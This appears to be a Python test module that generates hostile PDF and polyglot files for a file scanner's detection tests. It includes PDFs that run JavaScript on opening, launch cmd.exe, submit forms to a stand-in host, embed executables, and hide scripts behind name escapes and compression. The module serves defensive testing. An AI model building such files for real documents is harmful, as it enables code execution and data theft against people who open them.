"""Hostile PDF files, and files that are two things at once."""

from __future__ import annotations

import struct
import zlib

from tests.hostile.honest import docx, jpg, packed, pdf, png
from tests.hostile.making import HTML, hostile


def polyglots():
    """Files that are two things at once."""
    archive = packed({"evil.txt": "a"})
    yield hostile("PDF and zip", "a.pdf", pdf(tail=archive), "two_files_in_one")
    inside = pdf(streams=[("", archive)])
    yield hostile("zip within a PDF's stream", "a.pdf", inside, "two_files_in_one")
    yield hostile("PNG and zip", "a.png", png() + archive, "two_files_in_one")
    yield hostile("JPEG and zip", "a.jpg", jpg() + archive, "two_files_in_one")
    yield hostile("PNG and HTML", "a.png", png() + HTML, "two_files_in_one")
    comment = b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML
    photo = jpg()
    yield hostile(
        "JPEG with a script in its comment",
        "a.jpg",
        photo[:2] + comment + photo[2:],
        "two_files_in_one",
    )
    told = b"\xff\xfe" + struct.pack(">H", 12) + b"%PDF-1.7 a"
    yield hostile("JPEG that is a PDF", "a.jpg", photo[:2] + told + photo[2:], "two_files_in_one")
    yield hostile(
        "JPEG with a film behind it", "a.jpg", photo + b"\0\0\0\x18ftypmp42" * 9, "two_files_in_one"
    )
    yield hostile(
        "Word behind a program",
        "a.docx",
        b"MZ" + b"\0" * 98 + docx(),
        "file_damaged",
        "two_files_in_one",
    )
    yield hostile("Word with a tail", "a.docx", docx() + HTML, "two_files_in_one")
    page = pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n<script>alert(1)</script>\n")
    yield hostile("PDF and HTML", "a.pdf", page, "two_files_in_one")
    late = b"junk\n" + pdf()
    yield hostile("PDF that begins late", "a.pdf", late, "content_differs")


def acting_pdfs():
    """PDF files that do something."""
    for what, extra, catalog, code in (
        (
            "script at opening",
            ["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"],
            "/OpenAction 4 0 R",
            "pdf_runs",
        ),
        (
            "script with an escaped name",
            ["<< /S /Java#53cript /JS (x) >>"],
            "/OpenAction 4 0 R",
            "pdf_runs",
        ),
        ("starts a program", ["<< /S /Launch /F (cmd.exe) >>"], "/OpenAction 4 0 R", "pdf_runs"),
        (
            "starts a program, escaped",
            ["<< /S /L#61unch /F (cmd.exe) >>"],
            "/OpenAction 4 0 R",
            "pdf_runs",
        ),
        (
            "sends a form",
            ["<< /S /SubmitForm /F (https://evil.example) >>"],
            "/OpenAction 4 0 R",
            "pdf_runs",
        ),
        ("imports data", ["<< /S /ImportData /F (a.fdf) >>"], "/OpenAction 4 0 R", "pdf_runs"),
        ("rich media", ["<< /Type /Annot /Subtype /RichMedia >>"], "", "pdf_runs"),
        (
            "embedded file",
            ["<< /Names [(a) 5 0 R] >>", "<< /F (a.exe) /EF << >> >>"],
            "/Names << /EmbeddedFiles 4 0 R >>",
            "pdf_carries_files",
        ),
        (
            "attachment on a page",
            ["<< /Type /Annot /Subtype /FileAttachment >>"],
            "",
            "pdf_carries_files",
        ),
    ):
        yield hostile(f"PDF: {what}", "a.pdf", pdf(extra=extra, catalog=catalog), code)


def packed_pdfs():
    """PDF files that hide what they do, or all of their content."""
    script = b"4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    told = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    yield hostile(
        "PDF: script in a packed stream",
        "a.pdf",
        pdf(streams=[(told, zlib.compress(script))]),
        "pdf_runs",
    )
    far = zlib.compress(b" " * 3_000_000 + script)
    yield hostile(
        "PDF: script deep in a packed stream", "a.pdf", pdf(streams=[(told, far)]), "pdf_runs"
    )
    odd = "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]"
    yield hostile(
        "PDF: script packed twice",
        "a.pdf",
        pdf(streams=[(odd, zlib.compress(script).hex().encode() + b">")]),
        "pdf_unusual",
    )
    locked = ["<< /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >>"]
    yield hostile(
        "PDF: encrypted", "a.pdf", pdf(extra=locked, trailer="/Encrypt 4 0 R"), "file_encrypted"
    )
